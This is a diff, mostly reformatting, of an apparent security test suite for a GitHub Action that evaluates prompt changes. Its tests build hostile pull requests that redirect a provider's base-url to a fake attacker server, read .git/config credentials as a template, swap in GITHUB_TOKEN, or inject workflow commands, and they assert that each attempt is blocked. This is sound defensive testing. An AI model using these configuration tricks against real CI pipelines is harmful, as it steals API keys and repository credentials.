@@ -6,7 +6,13 @@ import { mkdir, readdir, readFile, rename, rm, symlink, writeFile } from 'node:f
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { startFakeGitHub, type FakeGitHub } from '../helpers/fake-github.ts';
-import { contextLinesOf, dropsTitle, sloppyUnlessStrict, startFakeOpenAI, type FakeOpenAI } from '../helpers/fake-openai.ts';
+import {
+  contextLinesOf,
+  dropsTitle,
+  sloppyUnlessStrict,
+  startFakeOpenAI,
+  type FakeOpenAI,
+} from '../helpers/fake-openai.ts';
 import { createPrRepo, type PrRepo } from '../helpers/pr-repo.ts';
 import { pullRequestEvent, runAction, type ActionRun } from '../helpers/run-action.ts';
 
@@ -44,7 +50,11 @@ describe('pull requests found by a hostile review', () => {
     openai = await startFakeOpenAI(sloppyUnlessStrict);
     attacker = await startFakeOpenAI((req) => ({ content: contextLinesOf(req)[1] ?? '' }));
     gh = await startFakeGitHub(0);
-    pr = await createPrRepo({ prefix: 'evalgate-attack-', config: BASE_CONFIG, env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url } });
+    pr = await createPrRepo({
+      prefix: 'evalgate-attack-',
+      config: BASE_CONFIG,
+      env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url },
+    });
     ({ repo, base } = pr);
   });
   after(async () => {
@@ -57,17 +67,36 @@ describe('pull requests found by a hostile review', () => {
   const worsenTemplate = (): Promise<void> => editFile('prompts/copy/qa-system.txt', (t) => t.replace(STRICT, LOOSE));
   const editConfig = (edit: (text: string) => string): Promise<void> => editFile('evalgate.yml', edit);
   const editCases = (edit: (c: Record<string, unknown>) => Record<string, unknown>): Promise<void> =>
-    editFile(DATA, (t) => t.split('\n').filter((l) => l !== '').map((l) => JSON.stringify(edit(JSON.parse(l) as Record<string, unknown>))).join('\n') + '\n');
+    editFile(
+      DATA,
+      (t) =>
+        t
+          .split('\n')
+          .filter((l) => l !== '')
+          .map((l) => JSON.stringify(edit(JSON.parse(l) as Record<string, unknown>)))
+          .join('\n') + '\n',
+    );
 
-  async function act(head: string, options: { eventName?: string; fork?: boolean; inputs?: Record<string, string>; event?: Record<string, unknown> } = {}): Promise<ActionRun> {
+  async function act(
+    head: string,
+    options: {
+      eventName?: string;
+      fork?: boolean;
+      inputs?: Record<string, string>;
+      event?: Record<string, unknown>;
+    } = {},
+  ): Promise<ActionRun> {
     return runAction({
-      workspace: repo, eventName: options.eventName ?? 'pull_request', githubUrl: gh.url,
+      workspace: repo,
+      eventName: options.eventName ?? 'pull_request',
+      githubUrl: gh.url,
       event: options.event ?? pullRequestEvent(base, head, { fork: options.fork ?? false }),
       env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url },
       ...(options.inputs ? { inputs: options.inputs } : {}),
     });
   }
-  const show = (r: ActionRun): string => `code=${r.code} verdict=${r.outputs['verdict']}\n${r.log.slice(-3000)}\n--- summary ---\n${r.summary.slice(0, 3000)}`;
+  const show = (r: ActionRun): string =>
+    `code=${r.code} verdict=${r.outputs['verdict']}\n${r.log.slice(-3000)}\n--- summary ---\n${r.summary.slice(0, 3000)}`;
 
   it('control: worsening the template alone is a regression', async () => {
     const head = await pullRequest('control', worsenTemplate);
@@ -101,9 +130,14 @@ describe('pull requests found by a hostile review', () => {
   it('A3 provider named "constructor": a provider only the PR defines must not be called, and must not skip the run', async () => {
     const head = await pullRequest('proto-provider', async () => {
       await worsenTemplate();
-      await editConfig((t) => t
-        .replace('providers:\n', `providers:\n  constructor: {model: gpt-4o-mini, base-url: "${attacker.url}", api-key-env: OPENAI_API_KEY}\n`)
-        .replace('    provider: target\n', '    provider: constructor\n'));
+      await editConfig((t) =>
+        t
+          .replace(
+            'providers:\n',
+            `providers:\n  constructor: {model: gpt-4o-mini, base-url: "${attacker.url}", api-key-env: OPENAI_API_KEY}\n`,
+          )
+          .replace('    provider: target\n', '    provider: constructor\n'),
+      );
     });
     const r = await act(head);
     assert.equal(attacker.requests.length, 0, 'no request to the attacker');
@@ -115,9 +149,14 @@ describe('pull requests found by a hostile review', () => {
   it('A3b a new suite on provider "toString" must be reported as not run, not take the whole run down', async () => {
     const head = await pullRequest('proto-provider-2', async () => {
       await worsenTemplate();
-      await editConfig((t) => t
-        .replace('providers:\n', `providers:\n  toString: {model: gpt-4o-mini, base-url: "${attacker.url}", api-key-env: GITHUB_TOKEN}\n`)
-        + `  - name: extra\n    kind: exact-copy\n    provider: toString\n    dataset: eval-datasets/exact-copy/random.jsonl\n    templates: {user: prompts/copy/simple-user.txt}\n`);
+      await editConfig(
+        (t) =>
+          t.replace(
+            'providers:\n',
+            `providers:\n  toString: {model: gpt-4o-mini, base-url: "${attacker.url}", api-key-env: GITHUB_TOKEN}\n`,
+          ) +
+          `  - name: extra\n    kind: exact-copy\n    provider: toString\n    dataset: eval-datasets/exact-copy/random.jsonl\n    templates: {user: prompts/copy/simple-user.txt}\n`,
+      );
     });
     const r = await act(head);
     assert.equal(attacker.requests.length, 0, 'no request to the attacker');
@@ -130,14 +169,18 @@ describe('pull requests found by a hostile review', () => {
     const head = await pullRequest('rename', async () => {
       await worsenTemplate();
       await rename(join(repo, DATA), join(repo, 'eval-datasets/exact-copy/natural-v2.jsonl'));
-      await editConfig((t) => t.replace('name: copy-qa-natural', 'name: copy-qa-natural-v2').replace(DATA, 'eval-datasets/exact-copy/natural-v2.jsonl'));
+      await editConfig((t) =>
+        t
+          .replace('name: copy-qa-natural', 'name: copy-qa-natural-v2')
+          .replace(DATA, 'eval-datasets/exact-copy/natural-v2.jsonl'),
+      );
     });
     const r = await act(head);
     assert.notEqual(r.code, 0, show(r));
     assert.match(r.summary, /copy-qa-natural \| — .* removed by this pull request/);
   });
 
-  it('A5 a template at .git/config: the checkout\'s git config (persisted credentials) must not reach the model', async () => {
+  it("A5 a template at .git/config: the checkout's git config (persisted credentials) must not reach the model", async () => {
     git('config', 'http.https://github.com/.extraheader', 'AUTHORIZATION: basic CANARY-GIT-CREDENTIAL');
     const head = await pullRequest('dotgit', async () => {
       await editConfig((t) => t.replace('user: prompts/copy/qa-user.txt', 'user: .git/config'));
@@ -145,12 +188,18 @@ describe('pull requests found by a hostile review', () => {
     const r = await act(head);
     const sent = openai.requests.map((q) => JSON.stringify(q)).join('\n');
     assert.ok(!sent.includes('CANARY-GIT-CREDENTIAL'), `.git/config was sent to the model\n${show(r)}`);
-    assert.ok(!r.summary.includes('repositoryformatversion') && !gh.comments.some((c) => c.body.includes('repositoryformatversion')));
+    assert.ok(
+      !r.summary.includes('repositoryformatversion') &&
+        !gh.comments.some((c) => c.body.includes('repositoryformatversion')),
+    );
     assert.match(r.log, /template path "\.git\/config" points into \.git, which evalgate never reads/);
   });
   it('B1 evalgate.yml that is a symlink to a file outside the checkout is refused', async () => {
     const outsideCfg = join(repo, '..', 'outside.yml');
-    await writeFile(outsideCfg, BASE_CONFIG.replace('retry-base-delay-ms: 10', `retry-base-delay-ms: 10, base-url: "${attacker.url}"`));
+    await writeFile(
+      outsideCfg,
+      BASE_CONFIG.replace('retry-base-delay-ms: 10', `retry-base-delay-ms: 10, base-url: "${attacker.url}"`),
+    );
     const head = await pullRequest('cfg-symlink', async () => {
       await rm(join(repo, 'evalgate.yml'));
       await symlink(outsideCfg, join(repo, 'evalgate.yml'));
@@ -161,21 +210,32 @@ describe('pull requests found by a hostile review', () => {
     assert.match(r.log, /symlink to a file outside/);
   });
 
-  it('B3 merge_group whose base has no config: the queued PR\'s own base-url must not get the key', async () => {
+  it("B3 merge_group whose base has no config: the queued PR's own base-url must not get the key", async () => {
     // A base commit without evalgate.yml (the config arrives with the queued PR, e.g. from a fork).
     git('checkout', '-q', '-f', '-B', 'nocfg', base);
     git('rm', '-q', 'evalgate.yml');
     git('commit', '-q', '-m', 'no config');
     const noCfg = git('rev-parse', 'HEAD');
     git('checkout', '-q', '-f', '-B', 'mg', noCfg);
-    await writeFile(join(repo, 'evalgate.yml'), BASE_CONFIG.replace('retry-base-delay-ms: 10', `retry-base-delay-ms: 10, base-url: "${attacker.url}"`));
+    await writeFile(
+      join(repo, 'evalgate.yml'),
+      BASE_CONFIG.replace('retry-base-delay-ms: 10', `retry-base-delay-ms: 10, base-url: "${attacker.url}"`),
+    );
     git('add', '-A');
     git('commit', '-q', '-m', 'introduce evalgate');
     const head = git('rev-parse', 'HEAD');
     const before = attacker.requests.length;
     const r = await act(head, {
       eventName: 'merge_group',
-      event: { merge_group: { base_sha: noCfg, head_sha: head, base_ref: 'refs/heads/main', head_ref: 'refs/heads/gh-readonly-queue/main/pr-9' }, repository: { name: 'app', owner: { login: 'octo' }, full_name: 'octo/app' } },
+      event: {
+        merge_group: {
+          base_sha: noCfg,
+          head_sha: head,
+          base_ref: 'refs/heads/main',
+          head_ref: 'refs/heads/gh-readonly-queue/main/pr-9',
+        },
+        repository: { name: 'app', owner: { login: 'octo' }, full_name: 'octo/app' },
+      },
     });
     const keys = attacker.requests.slice(before).map((q) => String(q.headers['authorization']));
     assert.equal(keys.length, 0, `the attacker received ${keys.length} requests with ${keys[0]}\n${show(r)}`);
@@ -188,7 +248,13 @@ describe('pull requests found by a hostile review', () => {
       await editConfig((t) => t.replace('system: prompts/copy/qa-system.txt', `system: ${JSON.stringify(evil)}`));
     });
     const r = await act(head);
-    assert.ok(!/^::warning title=INJECTED::/m.test(r.log), `injected workflow command in the log:\n${r.log.split('\n').filter((l) => l.includes('INJECTED') || l.includes('runs (')).join('\n')}`);
+    assert.ok(
+      !/^::warning title=INJECTED::/m.test(r.log),
+      `injected workflow command in the log:\n${r.log
+        .split('\n')
+        .filter((l) => l.includes('INJECTED') || l.includes('runs ('))
+        .join('\n')}`,
+    );
     assert.match(r.log, /contains a control character/);
   });
 
@@ -203,10 +269,28 @@ describe('pull requests found by a hostile review', () => {
 
   it('B6 duplicate keys and YAML merge keys are syntax/config errors', async () => {
     for (const [name, edit] of [
-      ['dup', (t: string) => t.replace('  target: {model: gpt-4o-mini, retry-base-delay-ms: 10}', `  target: {model: gpt-4o-mini, retry-base-delay-ms: 10}\n  target: {model: x, base-url: "${attacker.url}"}`)],
-      ['merge', (t: string) => `evil: &e {base-url: "${attacker.url}"}\n` + t.replace('  target: {model: gpt-4o-mini, retry-base-delay-ms: 10}', '  target: {<<: *e, model: gpt-4o-mini}')],
+      [
+        'dup',
+        (t: string) =>
+          t.replace(
+            '  target: {model: gpt-4o-mini, retry-base-delay-ms: 10}',
+            `  target: {model: gpt-4o-mini, retry-base-delay-ms: 10}\n  target: {model: x, base-url: "${attacker.url}"}`,
+          ),
+      ],
+      [
+        'merge',
+        (t: string) =>
+          `evil: &e {base-url: "${attacker.url}"}\n` +
+          t.replace(
+            '  target: {model: gpt-4o-mini, retry-base-delay-ms: 10}',
+            '  target: {<<: *e, model: gpt-4o-mini}',
+          ),
+      ],
     ] as const) {
-      const head = await pullRequest(`yaml-${name}`, async () => { await worsenTemplate(); await editConfig(edit); });
+      const head = await pullRequest(`yaml-${name}`, async () => {
+        await worsenTemplate();
+        await editConfig(edit);
+      });
       const before = attacker.requests.length;
       const r = await act(head);
       assert.equal(attacker.requests.length - before, 0, name);
@@ -217,14 +301,22 @@ describe('pull requests found by a hostile review', () => {
   it('B7 api-key-env pointed at GITHUB_TOKEN on an existing provider: base value used', async () => {
     const head = await pullRequest('ghtoken', async () => {
       await worsenTemplate();
-      await editConfig((t) => t.replace('target: {model: gpt-4o-mini,', 'target: {model: gpt-4o-mini, api-key-env: GITHUB_TOKEN,'));
+      await editConfig((t) =>
+        t.replace('target: {model: gpt-4o-mini,', 'target: {model: gpt-4o-mini, api-key-env: GITHUB_TOKEN,'),
+      );
     });
     const before = openai.requests.length;
     const r = await runAction({
-      workspace: repo, eventName: 'pull_request', githubUrl: gh.url, event: pullRequestEvent(base, head),
+      workspace: repo,
+      eventName: 'pull_request',
+      githubUrl: gh.url,
+      event: pullRequestEvent(base, head),
       env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url, GITHUB_TOKEN: 'ghs_CANARYTOKEN' },
     });
-    const sent = openai.requests.slice(before).map((q) => JSON.stringify(q)).join('\n');
+    const sent = openai.requests
+      .slice(before)
+      .map((q) => JSON.stringify(q))
+      .join('\n');
     assert.ok(!sent.includes('ghs_CANARYTOKEN'));
     assert.equal(r.outputs['verdict'], 'regression', show(r));
   });
@@ -246,7 +338,9 @@ describe('pull requests found by a hostile review', () => {
     await writeFile(join(repo, 'prompts/versions/v1/qa-system.txt'), strict);
     await writeFile(join(repo, 'prompts/versions/v2/qa-system.txt'), strict.replace(STRICT, LOOSE));
     await symlink('v1', join(repo, 'prompts/versions/current'));
-    await editConfig((t) => t.replace('system: prompts/copy/qa-system.txt', 'system: prompts/versions/current/qa-system.txt'));
+    await editConfig((t) =>
+      t.replace('system: prompts/copy/qa-system.txt', 'system: prompts/versions/current/qa-system.txt'),
+    );
     git('add', '-A');
     git('commit', '-q', '-m', 'versioned prompts');
     const base2 = git('rev-parse', 'HEAD');
@@ -258,12 +352,19 @@ describe('pull requests found by a hostile review', () => {
     const head = git('rev-parse', 'HEAD');
     assert.deepEqual(git('diff', '--name-only', base2, head).split('\n'), ['prompts/versions/current']);
     const r = await runAction({
-      workspace: repo, eventName: 'pull_request', githubUrl: gh.url, event: pullRequestEvent(base2, head),
+      workspace: repo,
+      eventName: 'pull_request',
+      githubUrl: gh.url,
+      event: pullRequestEvent(base2, head),
       env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url },
     });
     const forced = await runAction({
-      workspace: repo, eventName: 'pull_request', githubUrl: gh.url, event: pullRequestEvent(base2, head),
-      env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url }, inputs: { 'force-all': 'true' },
+      workspace: repo,
+      eventName: 'pull_request',
+      githubUrl: gh.url,
+      event: pullRequestEvent(base2, head),
+      env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: openai.url },
+      inputs: { 'force-all': 'true' },
     });
     assert.equal(forced.outputs['verdict'], 'regression', `force-all: ${show(forced)}`);
     assert.equal(r.outputs['verdict'], 'regression', show(r));
@@ -284,17 +385,34 @@ describe('pull requests found by a hostile review', () => {
   for (const eventName of ['workflow_run', 'pull_request_review', 'issue_comment']) {
     it(`D1 ${eventName} with the PR's head checked out: the PR's base-url must not get the key`, async () => {
       const head = await pullRequest(`ev-${eventName}`, async () => {
-        await editConfig((t) => t.replace('target: {model: gpt-4o-mini,', `target: {model: gpt-4o-mini, base-url: "${attacker.url}",`));
+        await editConfig((t) =>
+          t.replace('target: {model: gpt-4o-mini,', `target: {model: gpt-4o-mini, base-url: "${attacker.url}",`),
+        );
       });
       const before = attacker.requests.length;
-      const event = eventName === 'workflow_run'
-        ? { workflow_run: { head_sha: head, pull_requests: [{ number: 7, head: { sha: head }, base: { sha: base } }] }, repository: { name: 'app', owner: { login: 'octo' }, full_name: 'octo/app' } }
-        : eventName === 'issue_comment'
-          ? { issue: { number: 7, pull_request: { url: 'x' } }, comment: { body: '/evalgate' }, repository: { name: 'app', owner: { login: 'octo' }, full_name: 'octo/app' } }
-          : pullRequestEvent(base, head, { fork: true });
+      const event =
+        eventName === 'workflow_run'
+          ? {
+              workflow_run: {
+                head_sha: head,
+                pull_requests: [{ number: 7, head: { sha: head }, base: { sha: base } }],
+              },
+              repository: { name: 'app', owner: { login: 'octo' }, full_name: 'octo/app' },
+            }
+          : eventName === 'issue_comment'
+            ? {
+                issue: { number: 7, pull_request: { url: 'x' } },
+                comment: { body: '/evalgate' },
+                repository: { name: 'app', owner: { login: 'octo' }, full_name: 'octo/app' },
+              }
+            : pullRequestEvent(base, head, { fork: true });
       const r = await act(head, { eventName, event });
       const got = attacker.requests.slice(before).map((q) => String(q.headers['authorization']));
-      assert.equal(got.length, 0, `attacker got ${got.length} requests, e.g. ${got[0]}; verdict ${r.outputs['verdict']}`);
+      assert.equal(
+        got.length,
+        0,
+        `attacker got ${got.length} requests, e.g. ${got[0]}; verdict ${r.outputs['verdict']}`,
+      );
       if (eventName === 'pull_request_review') {
         // Judged like pull_request: the base's endpoint, and the change reported.
         assert.match(r.log, /this pull request changes providers\.target\.base-url/);
@@ -307,9 +425,11 @@ describe('pull requests found by a hostile review', () => {
   it('A3c the toString trick from a fork on pull_request_target (head checked out)', async () => {
     const head = await pullRequest('proto-target', async () => {
       await worsenTemplate();
-      await editConfig((t) => t
-        .replace('providers:\n', 'providers:\n  toString: {model: x}\n')
-        + `  - name: extra\n    kind: exact-copy\n    provider: toString\n    dataset: eval-datasets/exact-copy/random.jsonl\n    templates: {user: prompts/copy/simple-user.txt}\n`);
+      await editConfig(
+        (t) =>
+          t.replace('providers:\n', 'providers:\n  toString: {model: x}\n') +
+          `  - name: extra\n    kind: exact-copy\n    provider: toString\n    dataset: eval-datasets/exact-copy/random.jsonl\n    templates: {user: prompts/copy/simple-user.txt}\n`,
+      );
     });
     const r = await act(head, { eventName: 'pull_request_target', fork: true });
     assert.equal(r.code, 1, show(r));
